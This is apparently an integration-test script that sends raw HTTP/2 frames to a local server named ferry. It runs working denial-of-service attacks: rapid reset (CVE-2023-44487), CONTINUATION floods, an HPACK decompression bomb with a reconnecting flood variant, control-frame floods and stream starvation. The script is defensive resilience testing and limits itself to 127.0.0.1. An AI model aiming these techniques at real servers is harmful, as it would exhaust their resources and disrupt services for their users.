#!/usr/bin/python3
"""HTTP/2 attacks in raw frames, against ferry's listener (h2c prior knowledge on 127.0.0.1).

Run by tests/integration/http2/http2_attacks_test.cc with Debian's /usr/bin/python3 (python3-h2
brings hyperframe and hpack). Each attack prints one JSON line with what the client saw, and the
C++ test checks it together with ferry's CPU, memory and counters:

  h2_attacks.py PORT rapid_reset STREAMS
  h2_attacks.py PORT continuation_flood MEGABYTES
  h2_attacks.py PORT hpack_bomb REFERENCES
  h2_attacks.py PORT hpack_bomb_flood SECONDS REFERENCES RECONNECTS_PER_SECOND
  h2_attacks.py PORT authority_host AUTHORITY HOST
  h2_attacks.py PORT settings_flood FRAMES
  h2_attacks.py PORT ping_flood FRAMES
  h2_attacks.py PORT zero_window PATH SECONDS
  h2_attacks.py PORT stalled_neighbour STALLED_PATH LIVE_PATH SECONDS
  h2_attacks.py PORT open_streams PATH COUNT SECONDS
  h2_attacks.py PORT hold_streams PATH COUNT SECONDS
  h2_attacks.py PORT drain_watch PATH SECONDS
  h2_attacks.py PORT drain_reset PATH SECONDS
  h2_attacks.py PORT unfinished_head SECONDS

Only ever connects to 127.0.0.1.
"""

import json
import select
import socket
import sys
import time

import hpack
from hpack.hpack import encode_integer
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 0xB


class Peer:
    """A raw HTTP/2 client connection: frames out, frames in, and what ended it."""

    def __init__(self, port, settings=None, ack_settings=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.inbuf = b""
        self.closed = False
        self.goaway = None  # (error_code, last_stream_id) of the last GOAWAY
        self.goaways = []   # every GOAWAY: (seconds since connect, error_code, last_stream_id)
        self.started = time.monotonic()
        self.resets = {}    # stream id -> RST_STREAM error code
        self.headers = {}   # stream id -> decoded response headers
        self.data = {}      # stream id -> DATA bytes received
        self.ended = set()  # streams whose response ended (END_STREAM)
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        # Off while this client has a header block open: nothing but CONTINUATION may follow
        # HEADERS without END_HEADERS (RFC 9113 §6.10), not even a SETTINGS ACK.
        self.ack_settings = ack_settings
        first = SettingsFrame(0)
        for key, value in (settings or {}).items():
            first.settings[key] = value
        self.send(PREFACE + first.serialize())

    def send(self, data):
        """Sends all of `data`; False when ferry closed the connection meanwhile."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def poll(self, seconds=0.0):
        """Reads what arrived within `seconds` and parses whole frames."""
        deadline = time.monotonic() + seconds
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            ready, _, _ = select.select([self.sock], [], [], left)
            if not ready:
                return
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.inbuf += chunk
            self._parse()
            if time.monotonic() >= deadline:
                return

    def wait_closed(self, seconds):
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.poll(min(0.2, deadline - time.monotonic()))
        return self.closed

    def _parse(self):
        while len(self.inbuf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbuf[:9]))
            if len(self.inbuf) < 9 + length:
                return
            frame.parse_body(memoryview(self.inbuf[9:9 + length]))
            self.inbuf = self.inbuf[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.goaway = (frame.error_code, frame.last_stream_id)
                self.goaways.append((time.monotonic() - self.started, frame.error_code,
                                     frame.last_stream_id))
            elif isinstance(frame, RstStreamFrame):
                self.resets[frame.stream_id] = frame.error_code
            elif isinstance(frame, HeadersFrame):
                try:
                    self.headers[frame.stream_id] = dict(self.decoder.decode(frame.data))
                except Exception:  # a CONTINUATION-split head is not expected from ferry
                    self.headers[frame.stream_id] = {}
                if "END_STREAM" in frame.flags:
                    self.ended.add(frame.stream_id)
            elif isinstance(frame, DataFrame):
                self.data[frame.stream_id] = self.data.get(frame.stream_id, 0) + len(frame.data)
                if "END_STREAM" in frame.flags:
                    self.ended.add(frame.stream_id)
            elif (isinstance(frame, SettingsFrame) and "ACK" not in frame.flags and
                  self.ack_settings):
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())

    def result(self, **extra):
        out = {
            "closed": self.closed,
            "goaway_error": self.goaway[0] if self.goaway else None,
            "goaway_last_stream": self.goaway[1] if self.goaway else None,
            "resets": len(self.resets),
            "refused": sum(1 for c in self.resets.values() if c == 0x7),
            "responses": len(self.headers),
        }
        out.update(extra)
        return out


def request_block(encoder, path, method="GET", extra=()):
    fields = [(":method", method), (":scheme", "http"), (":authority", "127.0.0.1"),
              (":path", path)] + list(extra)
    return encoder.encode(fields)


def rapid_reset(port, streams):
    """CVE-2023-44487: open a stream and reset it at once, over and over."""
    peer = Peer(port)
    encoder = hpack.Encoder()
    sent = 0
    started = time.monotonic()
    for i in range(streams):
        sid = 1 + 2 * i
        frames = HeadersFrame(sid, request_block(encoder, "/v1/stream/rapid"),
                              flags=["END_HEADERS", "END_STREAM"]).serialize()
        frames += RstStreamFrame(sid, error_code=0x8).serialize()  # CANCEL
        if not peer.send(frames):
            break
        sent += 1
        if i % 100 == 0:
            peer.poll()
            if peer.closed:
                break
    peer.wait_closed(5)
    return peer.result(streams_sent=sent, seconds=time.monotonic() - started)


def continuation_flood(port, megabytes):
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames."""
    peer = Peer(port, ack_settings=False)
    encoder = hpack.Encoder()
    first = HeadersFrame(1, request_block(encoder, "/v1/stream/flood"), flags=[])
    peer.send(first.serialize())
    field = hpack.Encoder().encode([("x-flood", "a" * 8000)])  # ~8 KiB per field
    sent = 0
    limit = megabytes * 1024 * 1024
    while sent < limit:
        frame = ContinuationFrame(1, field * 2, flags=[])
        if not peer.send(frame.serialize()):
            break
        sent += len(field) * 2
        peer.poll()
        if peer.closed:
            break
    peer.wait_closed(5)
    return peer.result(bytes_sent=sent)


def hpack_bomb(port, references):
    """One 4 KiB field stored in the HPACK table, then referenced by its 1-byte index again and
    again: a few KiB on the wire decode to `references` x 4 KiB."""
    peer = Peer(port, ack_settings=False)
    encoder = hpack.Encoder()
    block = request_block(encoder, "/v1/stream/bomb")
    # Literal with incremental indexing (RFC 7541 §6.2.1), new name: it becomes index 62.
    name, value = b"x-bomb", b"b" * 4000
    literal = bytes([0x40]) + bytes(encode_integer(len(name), 7)) + name
    literal += bytes(encode_integer(len(value), 7)) + value
    block += literal + bytes([0x80 | 62]) * references
    chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    frames = HeadersFrame(1, chunks[0], flags=["END_STREAM"] +
                          (["END_HEADERS"] if len(chunks) == 1 else [])).serialize()
    for i, chunk in enumerate(chunks[1:], start=1):
        flags = ["END_HEADERS"] if i == len(chunks) - 1 else []
        frames += ContinuationFrame(1, chunk, flags=flags).serialize()
    peer.send(frames)
    peer.poll(3)
    return peer.result(wire_bytes=len(block), status=peer.headers.get(1, {}).get(":status"),
                       stream_reset=1 in peer.resets)


def raw_request_prefix(path):
    """:method GET, :scheme http (static table), :path and :authority literal without indexing
    (RFC 7541 §6.2.2): nothing is added to the dynamic table, whose index 62 stays the bomb."""
    prefix = bytes([0x82, 0x86])
    prefix += bytes([0x04]) + bytes(encode_integer(len(path), 7)) + path
    prefix += bytes([0x01]) + bytes(encode_integer(9, 7)) + b"127.0.0.1"
    return prefix


def hpack_bomb_flood(port, seconds, references, reconnects_per_second):
    """F2 of the reliability findings, for `seconds`: one 4,000-byte entry put in the dynamic
    table, then HEADERS blocks that reference it `references` times each (2,000: 8 MB decoded
    from ~2 KB) on new streams, as fast as ferry takes them, reading what it answers. The first
    block both enters the entry and references it. When ferry closes the connection the
    attacker opens another one and starts again, at most `reconnects_per_second` a second (a
    persistent attacker, not a connection flood: that costs any server its per-connection
    work, whatever the connection carries)."""
    name, value = b"x-bomb", b"b" * 4000
    refs = bytes([0x80 | 62]) * references
    seed = raw_request_prefix(b"/v1/stream/bomb")
    seed += bytes([0x40]) + bytes(encode_integer(len(name), 7)) + name
    seed += bytes(encode_integer(len(value), 7)) + value + refs
    bomb = raw_request_prefix(b"/v1/stream/bomb") + refs
    started = time.monotonic()
    deadline = started + seconds
    connections = blocks = wire = 0
    statuses = {}
    goaway_errors = {}
    while time.monotonic() < deadline:
        # The attacker's own pacing between connections (not a wait on ferry).
        next_connect = started + connections / reconnects_per_second
        if next_connect > time.monotonic():
            time.sleep(min(next_connect, deadline) - time.monotonic())
            continue
        try:
            peer = Peer(port)
        except OSError:
            continue
        connections += 1
        sid = 1
        ok = peer.send(HeadersFrame(sid, seed, flags=["END_HEADERS", "END_STREAM"]).serialize())
        while ok and not peer.closed and time.monotonic() < deadline:
            sid += 2
            if sid > 2**31 - 1:
                break
            ok = peer.send(HeadersFrame(sid, bomb, flags=["END_HEADERS", "END_STREAM"])
                           .serialize())
            if ok:
                blocks += 1
                wire += len(bomb)
            peer.poll()
        peer.wait_closed(max(0.0, min(0.2, deadline - time.monotonic())))
        for headers in peer.headers.values():
            status = headers.get(":status", "?")
            statuses[status] = statuses.get(status, 0) + 1
        for _, error, _ in peer.goaways:
            goaway_errors[str(error)] = goaway_errors.get(str(error), 0) + 1
        peer.sock.close()
    return {"seconds": time.monotonic() - started, "connections": connections,
            "bomb_blocks": blocks, "wire_bytes": wire, "statuses": statuses,
            "goaway_errors": goaway_errors}


def authority_host(port, authority, host):
    """One GET whose host field may name another entity than :authority (RFC 9113 §8.3.1)."""
    peer = Peer(port)
    block = hpack.Encoder().encode([(":method", "GET"), (":scheme", "http"),
                                    (":authority", authority), (":path", "/v1/stream/host"),
                                    ("host", host)])
    peer.send(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    deadline = time.monotonic() + 10
    while (not peer.closed and 1 not in peer.headers and 1 not in peer.resets and
           time.monotonic() < deadline):
        peer.poll(0.1)
    return peer.result(status=peer.headers.get(1, {}).get(":status"),
                       reset_code=peer.resets.get(1))


def control_flood(port, frames, make):
    """Control frames that each ask for an answer, sent without reading the answers."""
    peer = Peer(port)
    sent = 0
    batch = b"".join(make(i).serialize() for i in range(100))
    while sent < frames:
        if not peer.send(batch):
            break
        sent += 100
    peer.wait_closed(5)
    return peer.result(frames_sent=sent)


def zero_window(port, path, seconds):
    """Asks for a large response with no flow-control credit at all, and never reads it."""
    peer = Peer(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    encoder = hpack.Encoder()
    peer.send(HeadersFrame(1, request_block(encoder, path),
                           flags=["END_HEADERS", "END_STREAM"]).serialize())
    print(json.dumps({"ready": True}), flush=True)
    peer.poll(seconds)
    return peer.result(data_bytes=peer.data.get(1, 0), status=peer.headers.get(1, {}).get(":status"))


def stalled_neighbour(port, stalled_path, live_path, seconds):
    """Two streams on one connection, no credit at the start: only the second one gets credit
    (stream and connection WINDOW_UPDATEs as its bytes arrive). It must complete while the first
    stays stalled: one slow reader stalls nothing else on the connection (RFC 9113 §5.2)."""
    peer = Peer(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    encoder = hpack.Encoder()
    peer.send(HeadersFrame(1, request_block(encoder, stalled_path),
                           flags=["END_HEADERS", "END_STREAM"]).serialize() +
              HeadersFrame(3, request_block(encoder, live_path),
                           flags=["END_HEADERS", "END_STREAM"]).serialize() +
              WindowUpdateFrame(3, window_increment=1 << 20).serialize())
    deadline = time.monotonic() + seconds
    credited = 0
    while time.monotonic() < deadline and not peer.closed and 3 not in peer.ended:
        peer.poll(0.05)
        got = peer.data.get(3, 0)
        if got > credited:
            # Return what stream 3 took, to the connection and to stream 3 alone.
            peer.send(WindowUpdateFrame(0, window_increment=got - credited).serialize() +
                      WindowUpdateFrame(3, window_increment=got - credited).serialize())
            credited = got
    peer.poll(0.2)  # anything stream 1 would (wrongly) get meanwhile
    return peer.result(stalled_bytes=peer.data.get(1, 0), live_bytes=peer.data.get(3, 0))


def held_stream_for_drain(port, path):
    """One stream held open (`path`); says "ready" for the test to start the drain."""
    peer = Peer(port)
    encoder = hpack.Encoder()
    peer.send(HeadersFrame(1, request_block(encoder, path),
                           flags=["END_HEADERS", "END_STREAM"]).serialize())
    peer.poll(0.2)
    print(json.dumps({"ready": True}), flush=True)
    return peer


def goaways_of(peer):
    return [{"at": at, "error": error, "last_stream": last} for at, error, last in peer.goaways]


def drain_watch(port, path, seconds):
    """One stream held open (`path`), then records the GOAWAYs a drain sends until the
    connection closes (the test starts the drain once it reads "ready")."""
    peer = held_stream_for_drain(port, path)
    peer.wait_closed(seconds)
    return peer.result(goaways=goaways_of(peer), stream_reset=1 in peer.resets)


def drain_reset(port, path, seconds):
    """As drain_watch, but the held stream is reset (CANCEL) as soon as the drain's first GOAWAY
    arrives: the connection's last stream ends inside ferry's read of the RST_STREAM, and the
    final GOAWAY must still go out before the close."""
    peer = held_stream_for_drain(port, path)
    deadline = time.monotonic() + seconds
    while not peer.goaways and not peer.closed and time.monotonic() < deadline:
        peer.poll(0.1)
    reset_at = time.monotonic() - peer.started
    peer.send(RstStreamFrame(1, error_code=0x8).serialize())  # CANCEL
    peer.wait_closed(max(0.0, deadline - time.monotonic()))
    return peer.result(goaways=goaways_of(peer), reset_at=reset_at)


def open_streams(port, path, count, seconds):
    """Opens `count` streams at once (more than SETTINGS_MAX_CONCURRENT_STREAMS) and holds them."""
    peer = Peer(port)
    peer.poll(0.5)  # ferry's SETTINGS
    encoder = hpack.Encoder()
    frames = b""
    for i in range(count):
        frames += HeadersFrame(1 + 2 * i, request_block(encoder, path),
                               flags=["END_HEADERS", "END_STREAM"]).serialize()
    peer.send(frames)
    print(json.dumps({"ready": True}), flush=True)
    peer.poll(seconds)
    return peer.result(opened=count)


def hold_streams(port, path, count, seconds):
    """Opens `count` streams whose requests never end (HEADERS without END_STREAM, no DATA ever)
    and holds them `seconds`, reading what ferry answers (the starvation finding F1)."""
    peer = Peer(port)
    peer.poll(0.5)  # ferry's SETTINGS
    encoder = hpack.Encoder()
    frames = b"".join(HeadersFrame(1 + 2 * i, request_block(encoder, path),
                                   flags=["END_HEADERS"]).serialize() for i in range(count))
    peer.send(frames)
    print(json.dumps({"ready": True}), flush=True)
    # Until every stream was answered or reset, or `seconds` passed.
    deadline = time.monotonic() + seconds
    while (not peer.closed and time.monotonic() < deadline and
           len(peer.ended | set(peer.resets)) < count):
        peer.poll(min(0.1, max(0.0, deadline - time.monotonic())))
    statuses = {}
    for fields in peer.headers.values():
        status = fields.get(":status", "none")
        statuses[status] = statuses.get(status, 0) + 1
    no_error_resets = sum(1 for c in peer.resets.values() if c == 0)
    return peer.result(opened=count, statuses=statuses, no_error_resets=no_error_resets)


def unfinished_head(port, seconds):
    """HEADERS without END_HEADERS and nothing after it."""
    peer = Peer(port, ack_settings=False)
    encoder = hpack.Encoder()
    peer.send(HeadersFrame(1, request_block(encoder, "/v1/stream/slow"), flags=[]).serialize())
    started = time.monotonic()
    peer.wait_closed(seconds)
    return peer.result(seconds_to_close=time.monotonic() - started if peer.closed else None)


def main():
    port, attack, args = int(sys.argv[1]), sys.argv[2], sys.argv[3:]
    if attack == "rapid_reset":
        result = rapid_reset(port, int(args[0]))
    elif attack == "continuation_flood":
        result = continuation_flood(port, int(args[0]))
    elif attack == "hpack_bomb":
        result = hpack_bomb(port, int(args[0]))
    elif attack == "hpack_bomb_flood":
        result = hpack_bomb_flood(port, float(args[0]), int(args[1]), float(args[2]))
    elif attack == "authority_host":
        result = authority_host(port, args[0], args[1])
    elif attack == "settings_flood":
        result = control_flood(port, int(args[0]), lambda i: SettingsFrame(0))
    elif attack == "ping_flood":
        result = control_flood(port, int(args[0]),
                               lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")))
    elif attack == "zero_window":
        result = zero_window(port, args[0], float(args[1]))
    elif attack == "stalled_neighbour":
        result = stalled_neighbour(port, args[0], args[1], float(args[2]))
    elif attack == "drain_watch":
        result = drain_watch(port, args[0], float(args[1]))
    elif attack == "drain_reset":
        result = drain_reset(port, args[0], float(args[1]))
    elif attack == "open_streams":
        result = open_streams(port, args[0], int(args[1]), float(args[2]))
    elif attack == "hold_streams":
        result = hold_streams(port, args[0], int(args[1]), float(args[2]))
    elif attack == "unfinished_head":
        result = unfinished_head(port, float(args[0]))
    else:
        sys.exit("unknown attack " + attack)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
